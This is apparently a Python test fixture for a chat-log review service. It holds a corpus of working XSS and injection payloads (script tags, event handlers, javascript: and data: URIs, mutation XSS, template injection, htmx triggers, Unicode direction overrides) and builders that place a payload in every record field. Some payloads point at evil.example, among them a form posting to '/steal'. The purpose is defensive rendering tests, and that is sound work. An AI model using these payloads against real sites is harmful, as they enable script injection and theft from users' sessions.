"""Hostile input: a corpus of payloads, and documents that put one payload in every field the pages show.

The corpus is what a model, a logger or an attacker who controls either may send: markup that runs script if it
ever reaches a page as HTML, links and images with dangerous schemes, CSS, Unicode that reorders or widens text,
very long unbroken strings. Every payload that would run script sets ``window.__pwned`` (most also open a
dialog), so a browser test tells "shown as text" from "ran" by reading one variable.

The builders return plain JSON documents in the ingest formats (``record_qa``, ``chat_history``), to send through
the API like any producer does; ``FIELDS`` names every place they put the payload. ``deep_document`` gives a
``chat_document`` as text, nested deeper than json.dumps can write.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from copy import deepcopy
from typing import Any

PWNED = "window.__pwned=1"
# A host no page may ever contact, not even for the images the data carries explicitly as images (a Markdown
# image, an image part): those show as a button naming the host, and load only when a reviewer presses it.
FOREIGN = "https://evil.example"
MARKDOWN_IMAGE_URL = f"{FOREIGN}/markdown-image.png"
IMAGE_PART_URL = f"{FOREIGN}/image-part.png"
# An element no renderer knows: if it is ever in the DOM, raw HTML from the data reached the page.
MARKER_TAG = "hostile-element"

PROTOCOL_ID = "airalogy.id.lab.zhang_lab.project.pcr_opt.protocol.touchdown_pcr.v.0.2.1"
RECORD_ID = "airalogy.id.record.6f1c2a4e-4b7d-4f43-9a63-2f3c1d9e8b10.v.1"

_SVG_WITH_SCRIPT = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWNED}"><script>{PWNED}</script></svg>'
_SVG_DATA_URI = "data:image/svg+xml;base64," + base64.b64encode(_SVG_WITH_SCRIPT.encode()).decode()
_HTML_DATA_URI = "data:text/html;base64," + base64.b64encode(f"<script>{PWNED};alert(1)</script>".encode()).decode()

PAYLOADS: dict[str, str] = {
    "script_tag": f'<script>{PWNED};alert("script")</script><{MARKER_TAG}>marker</{MARKER_TAG}>',
    "img_onerror": f'<img src=x onerror="{PWNED};alert(1)"><img src="{FOREIGN}/raw-html-image.png">',
    "event_handlers": (
        f'<div onmouseover="{PWNED}" onfocus="{PWNED}" autofocus tabindex="0">hover</div>'
        f'<details open ontoggle="{PWNED}"><summary>x</summary></details><body onload="{PWNED}">'
        f'<input autofocus onfocus="{PWNED}"><video><source onerror="{PWNED}"></video>'
    ),
    "svg_script": (
        f'{_SVG_WITH_SCRIPT}<svg><foreignObject><img src=x onerror="{PWNED}"></foreignObject></svg>'
        f'<svg><a xlink:href="javascript:{PWNED}"><text>svg link</text></a></svg>'
    ),
    "javascript_links": (
        f"[markdown](javascript:{PWNED}) [mixed case](JaVaScRiPt:{PWNED}) [entity](&#106;avascript:{PWNED}) "
        f"[encoded](javascript&colon;{PWNED}) [spaced]( javascript:{PWNED} ) <javascript:{PWNED}> "
        f'<a href="javascript:{PWNED}">raw</a> ![image](javascript:{PWNED}) [reference][r]\n\n'
        f"[r]: javascript:{PWNED}\n"
    ),
    "data_and_other_schemes": (
        f'[html]({_HTML_DATA_URI}) <a href="data:text/html,<script>{PWNED}</script>">raw</a> '
        f"![svg image]({_SVG_DATA_URI}) [svg link]({_SVG_DATA_URI}) [vbscript](vbscript:msgbox(1)) "
        f"[file](file:///etc/passwd) [blob](blob:{FOREIGN}/x) <{_HTML_DATA_URI}>"
    ),
    "css_injection": (
        f"<style>*{{display:none!important}}body{{background:url({FOREIGN}/style-element.png)}}</style>"
        f'<p style="position:fixed;inset:0;width:10000px;background:url({FOREIGN}/style-attribute.png)">cover</p>'
        f'<link rel="stylesheet" href="{FOREIGN}/sheet.css"> @import url({FOREIGN}/import.css);'
        f" </style><style>main{{width:10000px}}</style>"
    ),
    "direction_overrides": (
        "invoice\u202egnp.exe\u202c \u202dforced LTR\u202c \u202bembedded RTL \u202aembedded LTR "
        "\u2066isolate \u2067RTL isolate \u2068first strong \u2069 \u200fRLM\u200eLRM\u061cALM "
        "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 ltr after rtl \u202e unterminated override"
    ),
    "markup_breakout": (
        f"\"><script>{PWNED}</script>'><img src=x onerror={PWNED}></textarea><script>{PWNED}</script>"
        f"</title><script>{PWNED}</script></style></pre></code></table></details></option>--><!--"
        f"]]><![CDATA[<script>{PWNED}</script>"
    ),
    "template_syntax": (
        "{{ 7*7 }} {% debug %} {{ request.user }} ${7*7} #{7*7} <%= 7*7 %> {{ csrf_input }} "
        f"{{{{constructor.constructor('{PWNED}')()}}}} {{% include 'base.html' %}}"
    ),
    "htmx_attributes": (
        f'<div hx-get="{FOREIGN}/hx" hx-trigger="load" hx-swap="outerHTML">a</div>'
        f'<a data-hx-post="/accounts/logout/" data-hx-trigger="load">b</a>'
        f'<div hx-on:htmx:load="{PWNED}" hx-on::load="{PWNED}">c</div><button data-open-keys>keys</button>'
    ),
    "frames_and_forms": (
        f'<iframe src="javascript:{PWNED}"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'
        f'<object data="{_HTML_DATA_URI}"></object><embed src="{FOREIGN}/embed">'
        f'<meta http-equiv="refresh" content="0;url=javascript:{PWNED}"><base href="{FOREIGN}/">'
        f'<form action="{FOREIGN}/steal"><button formaction="javascript:{PWNED}">go</button></form>'
    ),
    "mutation_xss": (
        f'<noscript><p title="</noscript><img src=x onerror={PWNED}>"></noscript>'
        f"<math><mtext><table><mglyph><style><img src=x onerror={PWNED}></style></mglyph></table></mtext></math>"
        f'<svg></p><style><a id="</style><img src=1 onerror={PWNED}>">'
        f'<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={PWNED} src=1>">'
    ),
    "markdown_tricks": (
        f"```html\n<script>{PWNED}</script>\n```\n\n"
        f'```"><script>{PWNED}</script>\ncode\n```\n\n'
        f"<div>\n<script>{PWNED}</script>\n</div>\n\n"
        f'![tracker]({MARKDOWN_IMAGE_URL} "title") [link with title](https://example.org/ "x\\" onmouseover=x")\n\n'
        f"| a | b |\n|---|---|\n| <script>{PWNED}</script> | [x](javascript:{PWNED}) |\n\n"
        f"<{FOREIGN}/autolink> [![nested](javascript:{PWNED})](javascript:{PWNED})"
    ),
    "long_unbroken": "W" * 20_000,
    "wide_and_control_characters": (
        "\ufdfd" * 40
        + "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 40
        + "\uff37" * 200
        + "\t\x0b\x0c\x01\x07\x08\x1b[31mANSI\x1b[0m\x7f\u2028\u2029\ufeff\ufffe\u00ad" * 10
        + "\u200b".join("Z" * 300)
    ),
}

# Where the builders put the payload: (document kind, field).
FIELDS: tuple[str, ...] = (
    "source name",
    "label name",
    "label description",
    "record_qa: chat_id (external id)",
    "record_qa: title",
    "record_qa: user_id",
    "record_qa: model name and model fields",
    "record_qa: scenario",
    "record_qa: injection context (listed ids, a kind's enabled, scope and unknown keys, an unknown context key)",
    "record_qa: tools offered (a tools list's names, descriptions and parameters; function_names)",
    "record_qa: unmapped top-level keys (metadata)",
    "record_qa: scenario message text and name",
    "system message text and name",
    "developer message text",
    "user message name",
    "user text part",
    "user image part URL",
    "user audio part data and format",
    "user file part name and data",
    "user refusal part",
    "user unknown part (type and keys)",
    "unknown message keys",
    "assistant text with <think> reasoning",
    "assistant reasoning_content",
    "tool call name",
    "tool call arguments (JSON keys and values)",
    "tool call arguments (not JSON)",
    "tool call id (unanswered call)",
    "tool result name",
    "tool result text (Markdown)",
    "tool result JSON",
    "orphan tool result id and text",
    "injected protocol ids (arguments and result)",
    "injected protocol title and Markdown",
    "injected record data (keys and values)",
    "injected discussion id and content",
    "function message name and text",
    "message role",
    "final answer text and refusal",
    "branch: another final answer",
    "imported feedback comment (human_feedback)",
    "chat_history: conversation_id",
    "chat_history: conversation context pairs",
    "chat_history: message context pairs",
    "chat_history: unmapped top-level keys (metadata)",
    "chat_history: user and assistant text",
    "reviewer feedback comment (message and conversation)",
    "reviewer feedback correction",
)


def cases() -> Iterator[tuple[str, str]]:
    """(name, payload) for every payload of the corpus."""
    yield from PAYLOADS.items()


def short(payload: str, limit: int) -> str:
    """The payload cut to a field's length (what the service stores of it anyway)."""
    return payload[:limit]


def _call(call_id: str, name: str, arguments: str) -> dict[str, Any]:
    return {"id": call_id, "type": "function", "function": {"name": name, "arguments": arguments}}


def record_qa_document(payload: str, *, chat_id: str) -> dict[str, Any]:
    """A Record QA document with ``payload`` in every field it can hold (see FIELDS), tool calls answered and
    not, injected protocols, records and discussions, and imported feedback on the final answer."""
    p = payload
    key = short(p, 40) or "empty"
    main_messages: list[dict[str, Any]] = [
        {"role": "system", "content": p, "name": p},
        {"role": "developer", "content": p},
        {
            "role": "user",
            "name": p,
            "content": [
                {"type": "text", "text": p},
                {"type": "image_url", "image_url": {"url": p}},
                {"type": "image_url", "image_url": {"url": f"javascript:{PWNED}"}},
                {"type": "image_url", "image_url": {"url": _HTML_DATA_URI}},
                {"type": "image_url", "image_url": {"url": _SVG_DATA_URI}},
                {"type": "image_url", "image_url": {"url": IMAGE_PART_URL}},
                {"type": "input_audio", "input_audio": {"data": p, "format": p}},
                {"type": "audio_url", "audio_url": {"url": f"javascript:{PWNED}"}},
                {"type": "file", "file": {"filename": p, "file_data": p}},
                {"type": "refusal", "refusal": p},
                {"type": p, key: p},
            ],
            "x_unknown_key": p,
        },
        {
            "role": "assistant",
            "content": f"<think>{p}</think>{p}",
            "reasoning_content": p,
            "tool_calls": [
                _call("call_search", p, json.dumps({"query": p, key: [p, {"nested": p}]})),
                _call("call_broken", "broken_arguments", "{not json " + p),
                _call(
                    "call_protocols",
                    "inject_airalogy_protocols",
                    json.dumps({"airalogy_protocol_ids": [PROTOCOL_ID, p]}),
                ),
                _call("call_records", "inject_airalogy_records", json.dumps({"airalogy_record_ids": [RECORD_ID]})),
                _call("call_discussions", "inject_airalogy_discussions", json.dumps({"airalogy_discussion_ids": [p]})),
                _call(f"unanswered {p}", "never_answered", json.dumps({"q": p})),
            ],
        },
        {"role": "tool", "tool_call_id": "call_search", "name": p, "content": p},
        {"role": "tool", "tool_call_id": "call_broken", "content": json.dumps({"html": p, key: [p]})},
        {
            "role": "tool",
            "tool_call_id": "call_protocols",
            "content": json.dumps(
                {
                    "airalogy_protocols": [
                        {"airalogy_protocol_id": PROTOCOL_ID, "title": p, "markdown": f"# {p}\n\n{p}"},
                        {"airalogy_protocol_id": p, "markdown": p},
                    ]
                }
            ),
        },
        {
            "role": "tool",
            "tool_call_id": "call_records",
            "content": json.dumps(
                {"airalogy_records": [{"airalogy_record_id": RECORD_ID, "data": {"field": p, key: {"nested": p}}}]}
            ),
        },
        {
            "role": "tool",
            "tool_call_id": "call_discussions",
            "content": json.dumps({"airalogy_discussions": [{"airalogy_discussion_id": p, "content": p}]}),
        },
        {"role": "tool", "tool_call_id": f"orphan {p}", "content": p},
        {"role": "function", "name": p, "content": p},
        {"role": p or "empty", "content": p},
        {"role": "assistant", "content": f"{p}\n\n{p}", "refusal": p},
    ]
    return {
        "chat_id": chat_id,
        "title": p,
        "user_id": p,
        "model": {"name": p, "enable_thinking": True, key: p},
        "start_time": "2026-01-02T03:04:05+00:00",
        "scenario": {"workflow": p, key: [p]},
        "end_time": "2026-01-02T04:05:06+00:00",
        "context": {
            "inject_airalogy_protocols": {"enabled": True, "airalogy_protocol_ids": [PROTOCOL_ID, p]},
            "inject_airalogy_discussions": {"enabled": p, "scope": p, key: p, "airalogy_discussion_ids": [p]},
            key: p,
        },
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": p,
                    "description": p,
                    "parameters": {"type": "object", "properties": {key: {"type": "string", "description": p}}},
                },
            },
            {"name": p, "description": p},
            p,
        ],
        "function_names": [p, "never_answered"],
        "x_unmapped": {"note": p, key: p},
        "scenario_messages": [{"role": "system", "content": p, "name": p}],
        "main_messages": main_messages,
        "human_feedback": [None] * (len(main_messages) - 1) + [{"score": -1, "additional": p}],
    }


def branch_variant(document: dict[str, Any], payload: str) -> dict[str, Any]:
    """The same document with another final answer: sent after it, a second branch at the last message."""
    variant = deepcopy(document)
    variant["main_messages"][-1] = {"role": "assistant", "content": f"Another answer: {payload}"}
    return variant


def chat_history_document(payload: str, *, conversation_id: str) -> dict[str, Any]:
    """A chat_history document with ``payload`` in its id, both levels of context pairs, metadata and texts."""
    p = payload
    return {
        "conversation_id": conversation_id,
        "logged_by": p,
        "context": [[p, p], ["locale", p]],
        "chat_history": [
            {"role": "user", "content": p, "context": [[p, p]]},
            {"role": "assistant", "content": p, "context": [["source", p]]},
        ],
    }


def nested_text(depth: int) -> str:
    """The JSON text of a value nested ``depth`` levels deep (objects and arrays in turn), built without recursion:
    deeper than json.dumps can go."""
    opening = "".join('{"k": ' if level % 2 == 0 else "[" for level in reversed(range(depth)))
    closing = "".join("}" if level % 2 == 0 else "]" for level in range(depth))
    return f'{opening}"leaf"{closing}'


DEEP_PLACES = ("metadata", "scenario", "part", "result", "arguments", "record")
# As deep as Python's recursion limit goes, far within the decoder's (100,000): code that recurses would fail on it.
DEEP = 1000


def deep_document(depth: int, where: str, *, conversation_id: str) -> str:
    """A chat_document (as text) with a value nested ``depth`` levels deep in one of DEEP_PLACES: an unmapped
    key (metadata), the scenario, an unknown content part, a JSON tool result, tool arguments, an injected record."""
    assert where in DEEP_PLACES, where
    shallow = '{"k": "leaf"}'
    value = {where: nested_text(depth)}
    arguments = f'{{"airalogy_record_ids": ["{RECORD_ID}"], "deep": {value.get("arguments", shallow)}}}'
    record = f'{{"airalogy_records": [{{"airalogy_record_id": "{RECORD_ID}", "data": {{"deep": {value.get("record", shallow)}}}}}]}}'
    result = f'{{"deep": {value.get("result", shallow)}}}'
    return (
        f'{{"chat_id": {json.dumps(conversation_id)}, "x_deep": {value.get("metadata", shallow)}, '
        f'"scenario": {value.get("scenario", shallow)}, "main_messages": ['
        f'{{"role": "user", "content": [{{"type": "text", "text": "deep"}}, {{"type": "odd", "v": {value.get("part", shallow)}}}]}},'
        '{"role": "assistant", "content": null, "tool_calls": ['
        f'{{"id": "call_deep", "type": "function", "function": {{"name": "inject_airalogy_records", "arguments": {json.dumps(arguments)}}}}},'
        '{"id": "call_plain", "type": "function", "function": {"name": "search", "arguments": "{}"}}]},'
        f'{{"role": "tool", "tool_call_id": "call_deep", "content": {json.dumps(record)}}},'
        f'{{"role": "tool", "tool_call_id": "call_plain", "content": {json.dumps(result)}}},'
        '{"role": "assistant", "content": "done"}]}'
    )
